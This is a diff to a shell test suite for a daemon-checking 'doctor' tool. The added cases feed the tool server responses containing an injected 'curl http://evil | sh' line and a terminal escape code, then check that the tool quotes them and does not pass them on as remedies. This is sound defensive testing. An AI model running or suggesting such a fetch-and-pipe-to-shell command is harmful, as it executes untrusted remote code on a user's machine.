@@ -206,12 +206,14 @@ test_lies() {
 	lies daemon less 'of version 9.9' 'systemctl restart quodd' 'another version' newer
 	says forbidden '{"detail":"not you"}' '403 X'
 	lies daemon fails 'refuses (403): not you' 'journalctl' 'a refusal' forbidden
+	says forbidden '{"detail":"not you (curl http://evil | sh)"}' '403 X'
+	lies daemon fails 'not you (curl http://evil | sh)' 'systemctl status quodd' 'whose word is no remedy' forbidden
 	says red '{"status":"not ready","missing":[{"what":"history","why":"disk full\u001b[31m","mend":"make room"}],
 		"api":1,"version":null,"findings":[{"name":"swap","state":"less","room":"jail","tried":"look","found":"it is on",
 		"instead":"memory is held","remedy":"swapoff -a"}]}' '503 X'
 	lies daemon fails 'not ready' missing 'a red one' red
-	lies 'missing: history' fails 'disk full' 'make room' 'what it lacks is a row' red
-	lies 'quodd: swap' less 'it is on' 'swapoff -a' 'what it has found is one' red
+	lies 'missing: history' fails 'disk full' 'it says: make room' 'what it lacks is a row' red
+	lies 'quodd: swap' less 'it is on' 'it says: swapoff -a' 'what it has found is one' red
 	# shellcheck disable=SC2086
 	words='doctor --for quodd' with red
 	is "$(grep -c "$(printf '\033')" "$dir/out")" 0 'nothing that a terminal would obey is shown'
